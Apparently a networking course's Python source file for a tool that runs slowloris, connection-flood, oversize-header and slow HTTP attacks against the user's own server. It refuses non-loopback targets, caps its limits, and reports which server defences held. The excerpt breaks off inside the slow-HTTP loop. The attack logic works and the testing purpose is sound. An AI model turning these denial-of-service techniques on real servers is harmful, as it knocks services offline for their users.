"""Attack your own server, on this machine only, and see which defence holds.

    python -m tools.attack slowloris --port P [--connections 8] [--interval 1.0] [--duration 10]
    python -m tools.attack flood     --port P [--connections 200] [--duration 10]
    python -m tools.attack oversize  --port P [--connections 50] [--length 4294967295]
    python -m tools.attack slow-headers --url http://127.0.0.1:P/ [--connections 50] [--interval 1]
    python -m tools.attack slow-body    --url http://127.0.0.1:P/echo [--body-size 1024]
    python -m tools.attack slow-read    --url http://127.0.0.1:P/big.bin [--read-bytes 1]

Three attacks on the course's protocol (a 4-byte big-endian length, then UTF-8 text):

  slowloris  opens N connections, announces a small message on each, then sends its body one
             byte every --interval seconds. A server whose only defence is a per-recv timeout
             keeps every one of them, and a thread for each, for as long as the attacker likes.
  flood      connects and disconnects as fast as it can, and counts how the server answered.
  oversize   announces a 4 GiB body and sends a few bytes; a careful server closes at once.

Three on HTTP (lesson 09), each holding connections open the slow way:

  slow-headers  a request whose headers never end: one more byte every --interval seconds.
  slow-body     complete headers announcing a body, then the body one byte at a time.
  slow-read     a GET for a big reply, read one byte at a time through a tiny receive buffer.

Each reports connections opened, held to the end, refused with 503, and dropped by the server
(with when, and the status it sent, e.g. 408).

From Python (lesson 05 runs these in a background thread and stops them with an Event):

    report = run_slowloris(("127.0.0.1", port), connections=8, interval=0.3, duration=3.0)
    print(report.summary())
    report = run_slow_headers(("127.0.0.1", port), connections=20, interval=0.2, duration=3.0)

Safety first: the target must resolve only to loopback addresses (127.0.0.0/8 or ::1), or the
tool refuses before it opens a single socket. At most 1000 connections and 300 seconds; every
socket has a timeout and every thread is a daemon, so the tool always ends by itself.
"""
from __future__ import annotations

import argparse
import errno
import ipaddress
import re
import selectors
import socket
import struct
import sys
import threading
import time
import urllib.parse
from collections import Counter
from dataclasses import dataclass, field

HEADER = struct.Struct("!I")  # the course's frame header: 4 bytes, big-endian, unsigned
BUSY = "server busy, try later"  # what a guarded server (lesson 05) says when it is full
MAX_CONNECTIONS = 1000
MAX_DURATION = 300.0  # seconds
CONNECT_TIMEOUT = 2.0  # seconds to wait for the server to accept a connection
RECONNECT_PAUSE = 0.05  # seconds a reconnecting attacker waits before trying again


class Refused(ValueError):
    """The tool will not run: the target is not this machine, or a limit was exceeded."""


# --------------------------------------------------------------------------- safety checks


def loopback_target(host: str, port: int) -> tuple[str, int]:
    """Resolve `host` and return the (ip, port) to attack; refuse anything off this machine.

    Every address the name resolves to must be loopback: a name with one loopback and one
    public address is refused too, since we could not be sure which one we would hit. The
    attack then connects to the checked IP, never to the name again, so the answer we checked
    is the answer we use.
    """
    if not isinstance(port, int) or not 0 < port < 65536:
        raise Refused(f"port must be between 1 and 65535 (got {port!r})")
    try:
        infos = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)
    except (socket.gaierror, UnicodeError) as exc:
        raise Refused(f"cannot resolve {host!r} ({exc}); use a loopback address "
                      "such as 127.0.0.1") from None
    # An IPv6 link-local answer may carry a zone ("fe80::1%eth0"): drop it before parsing.
    addresses = [ipaddress.ip_address(info[4][0].split("%", 1)[0]) for info in infos]
    outside = sorted({str(ip) for ip in addresses if not ip.is_loopback})
    if not addresses or outside:
        where = ", ".join(outside) or "nothing"
        raise Refused(f"refusing to attack {host!r}: it resolves to {where}, which is not a "
                      "loopback address. This tool only attacks servers on your own machine "
                      "(127.0.0.0/8 or ::1).")
    ip = next((ip for ip in addresses if ip.version == 4), addresses[0])  # servers bind 127.0.0.1
    return str(ip), port


def _check_count(name: str, value: int, most: int = MAX_CONNECTIONS) -> None:
    if not 1 <= value <= most:
        raise Refused(f"{name} must be between 1 and {most} (got {value})")


def _check_seconds(name: str, value: float, most: float = MAX_DURATION) -> None:
    if not 0 < value <= most:
        raise Refused(f"{name} must be more than 0 and at most {most:g} seconds (got {value:g})")


def _label(target: tuple[str, int]) -> str:
    host, port = target
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def _take_frames(inbox: bytearray) -> list[str]:
    """Remove and return every complete frame at the front of `inbox`.

    Decoded with errors="replace": the tool only shows and compares what the server said, so a
    stray byte should not crash the attack. (A server must never do this to its input.)"""
    texts = []
    while len(inbox) >= HEADER.size:
        (length,) = HEADER.unpack_from(inbox)
        if len(inbox) < HEADER.size + length:
            break
        texts.append(bytes(inbox[HEADER.size:HEADER.size + length]).decode("utf-8", "replace"))
        del inbox[:HEADER.size + length]
    return texts


def _row(label: str, value, note: str = "") -> str:
    """One aligned line of a summary: '  dropped by the server:   8 (after ...)'."""
    return f"  {label:<36}{value}{note}"


def _span(seconds: list[float]) -> str:
    """' (after 0.30 s)' or ' (after 0.30 s to 0.33 s)': when connections ended."""
    if not seconds:
        return ""
    low, high = min(seconds), max(seconds)
    return f" (after {low:.2f} s)" if len(seconds) == 1 else f" (after {low:.2f} s to {high:.2f} s)"


# --------------------------------------------------------------------------- slowloris


@dataclass
class Ending:
    """How one attacking connection ended before the attack did."""
    index: int        # which of the N connections (0-based)
    at: float         # seconds since the attack started
    lifetime: float   # seconds this connection had been open
    how: str          # "busy" (the server's busy reply), "closed" or "reset" (dropped by it)


class _Endings:
    """How a report counts its connections' endings (each has .how: "busy" for the server's
    refusal, the busy frame or a 503; anything else means the server ended it)."""

    @property
    def rejected(self) -> int:
        """Connections the server refused at once (busy reply, or 503 at its cap)."""
        return sum(1 for e in self.endings if e.how == "busy")

    @property
    def dropped(self) -> int:
        """Connections the server closed, reset or cut short while the attack ran."""
        return sum(1 for e in self.endings if e.how != "busy")


@dataclass
class SlowlorisReport(_Endings):
    target: str
    connections: int
    interval: float
    duration: float
    reconnect: bool
    elapsed: float = 0.0      # seconds the attack actually ran
    opened: int = 0           # connections the server accepted (reconnects included)
    failed: int = 0           # connection attempts that failed (refused, timed out)
    held: int = 0             # connections still open when the attack ended
    held_for: float = 0.0     # the shortest time any of those had been held open, in seconds
    replies: int = 0          # full replies: the server answered a completed trickled message
    bytes_sent: int = 0
    stopped: bool = False     # ended by the stop Event rather than by the clock
    endings: list[Ending] = field(default_factory=list)

    def headline(self) -> str:
        """One line, e.g. '8 held for 10.0 s; 0 rejected; 0 dropped'."""
        held = f"{self.held} held for {self.held_for:.1f} s" if self.held else "0 held"
        dropped = [e.lifetime for e in self.endings if e.how != "busy"]
        return f"{held}; {self.rejected} rejected; {self.dropped} dropped{_span(dropped)}"

    def summary(self) -> str:
        ran = f"ran {self.elapsed:.1f} s" + (", stopped early" if self.stopped else "")
        lines = [f"slowloris on {self.target}: {self.connections} connections, one byte every "
                 f"{self.interval:g} s; {ran}",
                 _row("held open to the end:", self.held,
                      f" (each for at least {self.held_for:.1f} s)" if self.held else ""),
                 _row("rejected (server busy):", self.rejected,
                      _span([e.lifetime for e in self.endings if e.how == "busy"])),
                 _row("dropped by the server:", self.dropped,
                      _span([e.lifetime for e in self.endings if e.how != "busy"]))]
        if self.reconnect:
            lines.append(_row("connections opened:", self.opened, " (reconnecting after each loss)"))
        if self.failed:
            lines.append(_row("could not connect:", self.failed))
        return "\n".join(lines)

    __str__ = summary


@dataclass
class _Trickler:
    """One slow connection: its socket, what it still has to send, and when."""
    index: int
    sock: socket.socket
    opened: float
    next_send: float
    pending: bytearray
    inbox: bytearray = field(default_factory=bytearray)


def run_slowloris(address, connections: int = 8, interval: float = 1.0, duration: float = 10.0,
                  reconnect: bool = False, *, stop: threading.Event | None = None,
                  ready: threading.Event | None = None, body_size: int = 100,
                  connect_timeout: float = CONNECT_TIMEOUT) -> SlowlorisReport:
    """Hold `connections` connections open by trickling one byte every `interval` seconds.

    Each connection sends a frame header announcing `body_size` bytes, then the body one byte
    at a time. It ends when the server closes it or answers busy (recorded, with when), or when
    `duration` is over or `stop` is set. With `reconnect`, a lost connection is reopened at
    once, as a real attacker would. One thread drives every connection (with a selector), so
    the report is built in the caller's thread and nothing is printed. `ready`, if given, is
    set once the first round of connections has been opened (or has failed).
    """
    target = loopback_target(*address)
    _check_count("connections", connections)
    _check_seconds("duration", duration)
    _check_seconds("interval", interval, most=60.0)
    _check_count("body_size", body_size, most=65536)
    stop = stop or threading.Event()
    report = SlowlorisReport(_label(target), connections, interval, duration, reconnect)
    header = HEADER.pack(body_size)
    body = (b"echo " + b"." * body_size)[:body_size]  # a harmless message, if it ever completes
    selector = selectors.DefaultSelector()
    start = time.monotonic()
    end = start + duration
    live: dict[int, _Trickler] = {}
    reopen: list[tuple[float, int]] = []  # (when, index) for connections to reopen

    def open_one(index: int) -> None:
        try:
            sock = socket.create_connection(target, timeout=connect_timeout)
        except OSError:
            report.failed += 1
            if reconnect:
                reopen.append((time.monotonic() + RECONNECT_PAUSE, index))
            return
        now = time.monotonic()
        report.opened += 1
        conn = _Trickler(index, sock, now, now + interval, bytearray(body))
        live[index] = conn
        selector.register(sock, selectors.EVENT_READ, conn)
        send(conn, header)

    def finish(conn: _Trickler, how: str) -> None:
        if live.get(conn.index) is not conn:
            return  # already finished
        del live[conn.index]
        now = time.monotonic()
        selector.unregister(conn.sock)
        conn.sock.close()
        report.endings.append(Ending(conn.index, now - start, now - conn.opened, how))
        if reconnect:
            reopen.append((now + RECONNECT_PAUSE, conn.index))

    def send(conn: _Trickler, data: bytes) -> None:
        try:
            conn.sock.sendall(data)
            report.bytes_sent += len(data)
        except OSError:  # BrokenPipe / ConnectionReset: the server has let go
            finish(conn, "reset")

    def on_readable(conn: _Trickler) -> None:
        try:
            data = conn.sock.recv(4096)
        except (BlockingIOError, TimeoutError):
            return  # nothing after all
        except OSError:
            finish(conn, "reset")
            return
        if not data:
            finish(conn, "closed")
            return
        conn.inbox += data
        for text in _take_frames(conn.inbox):
            if text == BUSY:
                finish(conn, "busy")
                return
            report.replies += 1  # the server answered a whole trickled message
        if len(conn.inbox) > 65536:  # a reply we will never finish: do not hoard it
            conn.inbox.clear()

    try:
        for index in range(connections):
            if stop.is_set() or time.monotonic() >= end:
                break
            open_one(index)
        if ready is not None:
            ready.set()
        while not stop.is_set():
            now = time.monotonic()
            if now >= end:
                break
            due = [index for when, index in reopen if when <= now]
            reopen[:] = [(when, index) for when, index in reopen if when > now]
            for index in due:
                open_one(index)
            for conn in list(live.values()):
                if conn.next_send <= now and live.get(conn.index) is conn:
                    if not conn.pending:  # the message is complete: start another one
                        conn.pending[:] = body
                        send(conn, header)
                    if live.get(conn.index) is conn:
                        send(conn, bytes(conn.pending[:1]))
                        del conn.pending[:1]
                        conn.next_send = now + interval
            wake = min([c.next_send for c in live.values()] + [t for t, _ in reopen] + [end])
            # Wake at least every 50 ms, so a stop request is noticed quickly.
            for key, _events in selector.select(max(0.0, min(wake - time.monotonic(), 0.05))):
                if live.get(key.data.index) is key.data:
                    on_readable(key.data)
    finally:
        finished = time.monotonic()
        report.stopped = stop.is_set()
        report.elapsed = finished - start
        report.held = len(live)
        report.held_for = min((finished - c.opened for c in live.values()), default=0.0)
        for conn in live.values():
            conn.sock.close()
        selector.close()
        if ready is not None:
            ready.set()  # never leave a waiter hanging, even if the attack failed early
    return report


# --------------------------------------------------------------------------- flood


@dataclass
class FloodReport:
    target: str
    connections: int          # connect/close cycles asked for
    concurrency: int          # how many cycles ran at the same time
    elapsed: float = 0.0
    stopped: bool = False
    outcomes: Counter = field(default_factory=Counter)

    @property
    def attempts(self) -> int:
        return sum(self.outcomes.values())

    def summary(self) -> str:
        o = self.outcomes
        ran = f"{self.elapsed:.1f} s" + (", stopped early" if self.stopped else "")
        return "\n".join([
            f"flood on {self.target}: {self.attempts} of {self.connections} connect/close cycles, "
            f"{self.concurrency} at a time; ran {ran}",
            _row("accepted (held open by the server):", o["accepted"]),
            _row("rejected (server busy):", o["busy"]),
            _row("closed by the server, no reply:", o["closed"]),
            _row("refused / reset / timed out:", f"{o['refused']} / {o['reset']} / {o['timeout']}"),
        ])

    __str__ = summary


def _flood_once(target: tuple[str, int], linger: float, connect_timeout: float) -> str:
    """One connect/close cycle. Waits up to `linger` s for a busy reply before closing."""
    try:
        sock = socket.create_connection(target, timeout=connect_timeout)
    except ConnectionRefusedError:
        return "refused"
    except ConnectionResetError:
        return "reset"
    except TimeoutError:
        return "timeout"
    except OSError:  # e.g. out of ephemeral ports or file descriptors: the attempt failed
        return "refused"
    with sock:
        sock.settimeout(linger)
        inbox = bytearray()
        try:
            while True:
                data = sock.recv(4096)
                if not data:
                    return "closed"
                inbox += data
                texts = _take_frames(inbox)
                if BUSY in texts:
                    return "busy"
                if texts:
                    return "accepted"  # it said something else: it is serving us
        except TimeoutError:
            return "accepted"  # open and waiting for us to speak
        except OSError:
            return "reset"


def run_flood(address, connections: int = 200, duration: float = 10.0, *, concurrency: int = 20,
              linger: float = 0.1, stop: threading.Event | None = None,
              connect_timeout: float = CONNECT_TIMEOUT) -> FloodReport:
    """A storm of `connections` connect/close cycles, `concurrency` at a time, within `duration`.

    Each cycle connects, waits up to `linger` seconds to see whether the server answers busy or
    closes, then closes. Counts accepted / busy / closed / refused / reset / timeout.
    """
    target = loopback_target(*address)
    _check_count("connections", connections)
    _check_seconds("duration", duration)
    _check_count("concurrency", concurrency, most=100)
    _check_seconds("linger", linger, most=10.0)
    stop = stop or threading.Event()
    report = FloodReport(_label(target), connections, min(concurrency, connections))
    lock = threading.Lock()  # guards `claimed` and the counter: the workers share them
    claimed = 0
    start = time.monotonic()
    end = start + duration

    def worker():
        nonlocal claimed
        while not stop.is_set() and time.monotonic() < end:
            with lock:
                if claimed >= connections:
                    return
                claimed += 1
            outcome = _flood_once(target, linger, connect_timeout)
            with lock:
                report.outcomes[outcome] += 1

    workers = [threading.Thread(target=worker, name=f"flood-{n}", daemon=True)
               for n in range(report.concurrency)]
    for thread in workers:
        thread.start()
    for thread in workers:  # each worker ends within one cycle of the deadline
        thread.join(max(0.0, end - time.monotonic()) + connect_timeout + linger + 1.0)
    report.elapsed = time.monotonic() - start
    report.stopped = stop.is_set()
    with lock:
        report.outcomes = Counter(report.outcomes)  # a snapshot, in case a worker is still late
    return report


# --------------------------------------------------------------------------- oversize


@dataclass
class OversizeResult:
    how: str        # "closed" / "reset" (the server let go), "busy", "open" (still open), "failed"
    seconds: float  # from sending the forged header until the server closed (or we gave up)


@dataclass
class OversizeReport:
    target: str
    connections: int
    length: int
    wait: float
    elapsed: float = 0.0
    stopped: bool = False
    results: list[OversizeResult] = field(default_factory=list)

    def _times(self) -> list[float]:
        return [r.seconds for r in self.results if r.how in ("closed", "reset")]

    @property
    def closed(self) -> int:
        return len(self._times())

    @property
    def closed_within_1s(self) -> int:
        return sum(1 for t in self._times() if t < 1.0)

    def count(self, how: str) -> int:
        return sum(1 for r in self.results if r.how == how)

    def summary(self) -> str:
        times = self._times()
        speed = (f" (fastest {min(times) * 1000:.1f} ms, slowest {max(times) * 1000:.1f} ms; "
                 f"{self.closed_within_1s} within 1 s)") if times else ""
        ran = f"{self.elapsed:.1f} s" + (", stopped early" if self.stopped else "")
        lines = [f"oversize on {self.target}: {len(self.results)} of {self.connections} "
                 f"connections announced {self.length} bytes; ran {ran}",
                 _row("closed by the server:", self.closed, speed),
                 _row("rejected (server busy):", self.count("busy")),
                 _row(f"still open after {self.wait:g} s:", self.count("open"))]
        if self.count("failed"):
            lines.append(_row("could not connect:", self.count("failed")))
        return "\n".join(lines)

    __str__ = summary


def _oversize_once(target, length: int, wait: float, connect_timeout: float) -> OversizeResult:
    try:
        sock = socket.create_connection(target, timeout=connect_timeout)
    except OSError:
        return OversizeResult("failed", 0.0)
    with sock:
        sent = time.monotonic()
        deadline = sent + wait
        try:
            sock.sendall(HEADER.pack(length) + b"AAAA")  # the forged header and a taste of body
            inbox = bytearray()
            while (left := deadline - time.monotonic()) > 0:
                sock.settimeout(left)
                data = sock.recv(4096)
                if not data:
                    return OversizeResult("closed", time.monotonic() - sent)
                inbox += data
                if BUSY in _take_frames(inbox):
                    return OversizeResult("busy", time.monotonic() - sent)
        except TimeoutError:
            pass
        except OSError:
            return OversizeResult("reset", time.monotonic() - sent)
        return OversizeResult("open", time.monotonic() - sent)


def run_oversize(address, connections: int = 50, length: int = 0xFFFFFFFF, *, wait: float = 2.0,
                 duration: float = 60.0, stop: threading.Event | None = None,
                 connect_timeout: float = CONNECT_TIMEOUT) -> OversizeReport:
    """Open `connections` connections one after another; each announces `length` bytes, sends a
    few, and times how long the server takes to close it (giving up after `wait` seconds)."""
    target = loopback_target(*address)
    _check_count("connections", connections)
    _check_seconds("duration", duration)
    _check_seconds("wait", wait, most=60.0)
    if not 0 <= length <= 0xFFFFFFFF:
        raise Refused(f"length must fit in 4 bytes: 0 to 4294967295 (got {length})")
    stop = stop or threading.Event()
    report = OversizeReport(_label(target), connections, length, wait)
    start = time.monotonic()
    for _ in range(connections):
        if stop.is_set():
            break
        left = start + duration - time.monotonic()
        if left <= 0:
            break
        report.results.append(_oversize_once(target, length, min(wait, left), connect_timeout))
    report.elapsed = time.monotonic() - start
    report.stopped = stop.is_set()
    return report


# --------------------------------------------------------------------------- slow HTTP

SLOW_HTTP = ("slow-headers", "slow-body", "slow-read")
DRAIN_BUDGET = 1.0  # seconds slow-read spends at the end finding out which replies were cut short
HEAD_LIMIT = 16384  # bytes of a reply's status line + headers we are willing to read
SMALL_REPLY = 4 << 20  # a reply smaller than this may fit in the socket buffers (Linux loopback)


def parse_url(url: str) -> tuple[str, int, str]:
    """'http://127.0.0.1:8080/a?b' -> ('127.0.0.1', 8080, '/a?b'). Only plain http: the slow
    attacks speak HTTP/1.1 in clear text (lesson 12 adds TLS)."""
    parts = urllib.parse.urlsplit(url)
    if parts.scheme != "http" or not parts.hostname:
        raise Refused(f"--url must look like http://127.0.0.1:PORT/path (got {url!r})")
    try:
        port = parts.port or 80
    except ValueError:
        raise Refused(f"--url has a bad port: {url!r}") from None
    path = parts.path or "/"
    return parts.hostname, port, path + (f"?{parts.query}" if parts.query else "")


def _status_of(head: bytes) -> int | None:
    """The status code of 'HTTP/1.1 503 Service Unavailable\\r\\n...', or None."""
    match = re.match(rb"HTTP/\d\.\d (\d{3})", head)
    return int(match.group(1)) if match else None


def _content_length(head: bytes) -> int | None:
    match = re.search(rb"\r\ncontent-length:[ \t]*(\d+)", head, re.IGNORECASE)
    return int(match.group(1)) if match else None


@dataclass
class HttpEnding:
    """How one slow connection ended before the attack did."""
    index: int
    at: float                 # seconds since the attack started (for "cut short": the end)
    lifetime: float           # seconds the connection had been open
    how: str                  # "busy" (503), "closed", "reset", "cut short" (slow-read only)
    status: int | None = None  # the last status code the server sent on it, if any


@dataclass
class SlowHttpReport(_Endings):
    attack: str               # "slow-headers", "slow-body" or "slow-read"
    target: str
    path: str
    connections: int
    interval: float
    duration: float
    reconnect: bool = False
    pace: str = ""            # what each connection does every interval, in words
    elapsed: float = 0.0
    opened: int = 0           # connections the server accepted (reconnects included)
    failed: int = 0           # connection attempts that failed (refused, reset, timed out)
    held: int = 0             # connections still open (and still unfinished) at the end
    held_for: float = 0.0     # the shortest time any of those had been held, in seconds
    replies: Counter = field(default_factory=Counter)  # status code -> how many the server sent
    bytes_sent: int = 0
    bytes_received: int = 0
    stopped: bool = False
    notes: list[str] = field(default_factory=list)
    endings: list[HttpEnding] = field(default_factory=list)

    def headline(self) -> str:
        """One line, e.g. '200 held for 10.0 s; 0 refused (503); 0 dropped'."""
        held = f"{self.held} held for {self.held_for:.1f} s" if self.held else "0 held"
        dropped = [e.lifetime for e in self.endings if e.how not in ("busy", "cut short")]
        return f"{held}; {self.rejected} refused (503); {self.dropped} dropped{_span(dropped)}"

    def summary(self) -> str:
        ran = f"ran {self.elapsed:.1f} s" + (", stopped early" if self.stopped else "")
        dropped = [e for e in self.endings if e.how != "busy"]
        timed = [e.lifetime for e in dropped if e.how != "cut short"]
        late = sum(1 for e in dropped if e.how == "cut short")
        lines = [f"{self.attack} on http://{self.target}{self.path}: {self.connections} "
                 f"connections, {self.pace} every {self.interval:g} s; {ran}",
                 _row("connections opened:", self.opened,
                      " (reconnecting after each loss)" if self.reconnect else ""),
                 _row("held open to the end:", self.held,
                      f" (each for at least {self.held_for:.1f} s)" if self.held else ""),
                 _row("refused (503 over the cap):", self.rejected,
                      _span([e.lifetime for e in self.endings if e.how == "busy"])),
                 _row("dropped by the server:", len(dropped),
                      _span(timed) + (f", {late} found cut short at the end" if late else ""))]
        if self.failed:
            lines.append(_row("could not connect (refused/reset):", self.failed))
        if self.replies:
            codes = ", ".join(f"{code} x{n}" for code, n in sorted(self.replies.items()))
            lines.append(_row("status codes the server sent:", codes))
        lines += [f"  note: {note}" for note in self.notes]
        return "\n".join(lines)

    __str__ = summary


@dataclass
class _SlowConn:
    index: int
    sock: socket.socket
    opened: float               # when the connect began, then when it completed
    next_tick: float
    connecting: bool = True     # the non-blocking connect has not completed yet
    pending: bytearray = field(default_factory=bytearray)  # slow-body: the rest of the body
    inbox: bytearray = field(default_factory=bytearray)    # the reply head being read
    status: int | None = None   # last status code seen on this connection
    reading_body: bool = False  # slow-read: the head is read, now we read on our own clock
    expected: int = 0           # slow-read: bytes of the whole reply (all pipelined copies)
    received: int = 0           # slow-read: bytes of the reply received so far


def run_slow_http(attack_name: str, address, connections: int = 50, interval: float = 1.0,
                  duration: float = 10.0, reconnect: bool = False, *, path: str = "/",
                  stop: threading.Event | None = None, ready: threading.Event | None = None,
                  body_size: int = 1024, read_bytes: int = 1, rcvbuf: int = 1024,
                  pipeline: int = 1, rate: float = 200.0, drain: float = DRAIN_BUDGET,
                  connect_timeout: float = CONNECT_TIMEOUT) -> SlowHttpReport:
    """Hold `connections` HTTP connections open the slow way; report what the server did.

    slow-headers  sends a request line, a Host header and then one more byte of a header
                  that never ends, every `interval` s: the request is never complete.
    slow-body     sends complete POST headers announcing `body_size` bytes of JSON, then the
                  body one byte every `interval` s (a completed body starts another request).
    slow-read     asks for `path` (`pipeline` times in one send) with a tiny receive buffer
                  (`rcvbuf`), reads the reply's head at once, then `read_bytes` bytes of it
                  every `interval` s (0: never). A reply bigger than the kernel's buffers
                  (a few MiB on Linux) keeps the server's send blocked. A server that gives
                  up with a reset is seen at once; one that closes politely is found out at
                  the end, when the rest of the reply is read quickly and comes up short.

    A 503 reply counts as refused; a close or reset (with or without a status such as 408)
    counts as dropped, with when. Connections are opened without blocking, `rate` per second:
    a burst would overflow a short listen queue (the stock server's is 5) and be reset by the
    kernel before the server ever saw it, which says nothing about its defences. Nothing is
    printed; `ready` is set once the first round of connections is open (or has failed);
    `stop` ends the attack within 50 ms.
    """
    if attack_name not in SLOW_HTTP:
        raise Refused(f"unknown attack {attack_name!r}; choose one of {', '.join(SLOW_HTTP)}")
    target = loopback_target(*address)
    _check_count("connections", connections)
    _check_seconds("duration", duration)
    _check_seconds("interval", interval, most=60.0)
    _check_count("body_size", body_size, most=1 << 30)
    _check_count("rcvbuf", rcvbuf, most=1 << 20)
    _check_count("pipeline", pipeline, most=1000)
    if not 0 <= drain <= 10:
        raise Refused(f"drain must be between 0 and 10 seconds (got {drain:g})")
    if not 1 <= rate <= 10000:
        raise Refused(f"rate must be between 1 and 10000 connections per second (got {rate:g})")
    if not 0 <= read_bytes <= 65536:
        raise Refused(f"read_bytes must be between 0 and 65536 (got {read_bytes})")
    if not path.startswith("/") or any(c in path for c in "\r\n "):
        raise Refused(f"path must start with '/' and hold no spaces or line breaks (got {path!r})")
    stop = stop or threading.Event()
    report = SlowHttpReport(attack_name, _label(target), path, connections, interval, duration,
                            reconnect)
    report.pace = {"slow-headers": "one more header byte",
                   "slow-body": f"one more body byte (of {body_size})",
                   "slow-read": f"{read_bytes} reply byte(s) read" if read_bytes
                   else "nothing read"}[attack_name]
    host = _label(target)
    if attack_name == "slow-headers":
        opener = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: tools.attack\r\n"
                  "X-Slow: ").encode()
    elif attack_name == "slow-body":
        opener = (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: tools.attack\r\n"
                  f"Content-Type: application/json\r\nContent-Length: {body_size}\r\n\r\n").encode()
    else:
        opener = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\n"
                  "User-Agent: tools.attack\r\n\r\n").encode() * pipeline
    # The slow body is valid JSON if it ever completes: {"pad":"xxx...x"} of exactly body_size.
    body = (b'{"pad":"' + b"x" * max(0, body_size - 10) + b'"}') if body_size >= 10 \
        else b"1" * body_size
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    selector = selectors.DefaultSelector()
    start = time.monotonic()
    end = start + duration
    live: dict[int, _SlowConn] = {}
    reopen: list[tuple[float, int]] = []
    smallest = [1 << 62]  # slow-read: the smallest whole reply seen, in bytes

    def open_one(index: int) -> None:
        """Start a non-blocking connect; connected() finishes it when the socket is writable."""
        sock = socket.socket(family, socket.SOCK_STREAM)
        if attack_name == "slow-read":  # before connect: the window is agreed in the handshake
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        error = sock.connect_ex(target)
        if error not in (0, errno.EINPROGRESS, errno.EWOULDBLOCK):
            sock.close()
            lost_attempt(index)
            return
        now = time.monotonic()
        conn = _SlowConn(index, sock, now, now + connect_timeout, pending=bytearray(body))
        live[index] = conn
        selector.register(sock, selectors.EVENT_WRITE, conn)

    def lost_attempt(index: int) -> None:
        report.failed += 1
        if reconnect:
            reopen.append((time.monotonic() + RECONNECT_PAUSE, index))

    def connected(conn: _SlowConn) -> None:
        if conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):  # refused or reset
            del live[conn.index]
            selector.unregister(conn.sock)
            conn.sock.close()
            lost_attempt(conn.index)
            return
        now = time.monotonic()
        conn.connecting, conn.opened, conn.next_tick = False, now, now + interval
        report.opened += 1
        conn.sock.settimeout(connect_timeout)  # our own sends are small: a timeout bounds them
        selector.modify(conn.sock, selectors.EVENT_READ, conn)
        send(conn, opener)

    def finish(conn: _SlowConn, how: str, at: float | None = None) -> None:
        if live.get(conn.index) is not conn:
            return
        del live[conn.index]
        now = time.monotonic()
        try:
            selector.unregister(conn.sock)
        except (KeyError, ValueError):
            pass  # slow-read stops watching a socket once it reads on its own clock
        conn.sock.close()
        report.endings.append(HttpEnding(conn.index, now - start if at is None else at,
                                         now - conn.opened, how, conn.status))
        if reconnect and how != "cut short":
            reopen.append((now + RECONNECT_PAUSE, conn.index))

    def send(conn: _SlowConn, data: bytes) -> None:
        try:
            conn.sock.sendall(data)
            report.bytes_sent += len(data)
        except OSError:  # reset, broken pipe, or a server that stopped reading our request
            finish(conn, "reset")

    def read_heads(conn: _SlowConn) -> None:
        """Read what the server sent; note each reply's status; end on 503, close or reset."""
        try:
            data = conn.sock.recv(65536)
        except (BlockingIOError, TimeoutError):
            return
        except OSError:
            finish(conn, "reset")
            return
        if not data:
            finish(conn, "closed")
            return
        report.bytes_received += len(data)
        conn.inbox += data
        while (head_end := conn.inbox.find(b"\r\n\r\n")) >= 0:
            head = bytes(conn.inbox[:head_end + 4])
            status = _status_of(head)
            if status is None:  # body bytes of an earlier reply: skip to the next head
                next_head = conn.inbox.find(b"HTTP/", 1)
                del conn.inbox[:next_head if next_head > 0 else len(conn.inbox)]
                continue
            conn.status = status
            report.replies[status] += 1
            if status == 503:
                finish(conn, "busy")
                return
            if attack_name == "slow-read":  # the head is in: from now on, read slowly
                conn.reading_body = True
                conn.expected = pipeline * (len(head) + (_content_length(head) or 0))
                conn.received = len(conn.inbox)
                conn.inbox.clear()
                smallest[0] = min(smallest[0], conn.expected)
                selector.unregister(conn.sock)
                conn.sock.setblocking(False)
                return
            del conn.inbox[:head_end + 4]
            if attack_name == "slow-body" and not conn.pending:  # our request was answered
                conn.pending[:] = body
                send(conn, opener)
                return
        if len(conn.inbox) > HEAD_LIMIT:
            conn.inbox.clear()  # not a head we understand: do not hoard it

    def slow_read_tick(conn: _SlowConn) -> None:
        """Notice a reset at once (SO_ERROR), then read `read_bytes` bytes, or notice a close."""
        if conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            finish(conn, "reset")
            return
        if not read_bytes:
            return
        try:
            data = conn.sock.recv(read_bytes)
        except BlockingIOError:
            return
        except OSError:
            finish(conn, "reset")
            return
        if not data:
            finish(conn, "closed")
            return
        conn.received += len(data)
        report.bytes_received += len(data)

    def tick(conn: _SlowConn) -> None:
        if attack_name == "slow-headers":
            send(conn, b"x")
        elif attack_name == "slow-body":
            if conn.pending:
                send(conn, bytes(conn.pending[:1]))
                del conn.pending[:1]
        elif conn.reading_body:
            slow_read_tick(conn)

    def drain_replies(budget: float) -> None:
        """slow-read, at the end: read the rest of each reply quickly. A reply that ends (close
        or reset) short of its length was cut short by the server; one that keeps coming, or
        is complete, was still being served: held."""
        ends = time.monotonic() + budget
        waiting = [c for c in live.values() if c.reading_body]
        for conn in waiting:  # a bigger window now: we want the rest quickly
            conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 18)
        while waiting and time.monotonic() < ends:
            still, progress = [], False
            for conn in waiting:
                try:
                    data = conn.sock.recv(1 << 20)
                except BlockingIOError:
                    still.append(conn)
                    continue
                except OSError:
                    data = b""
                if data:
                    progress = True
                    conn.received += len(data)
                    report.bytes_received += len(data)
                    if conn.received < conn.expected:
                        still.append(conn)
                elif conn.received < conn.expected:
                    finish(conn, "cut short")
            waiting = still
            if waiting and not progress:
                time.sleep(0.005)

    first_round = True
    to_open = list(range(connections))  # the first round, opened at `rate` per second
    try:
        while not stop.is_set():
            now = time.monotonic()
            if now >= end:
                break
            while to_open and (start + (connections - len(to_open)) / rate) <= now:
                open_one(to_open.pop(0))
            if not to_open and not live and not reopen:
                break  # every connection has ended and none will be reopened: nothing to hold
            if first_round and not to_open and not any(c.connecting for c in live.values()):
                first_round = False
                if ready is not None:
                    ready.set()
            due = [index for when, index in reopen if when <= now]
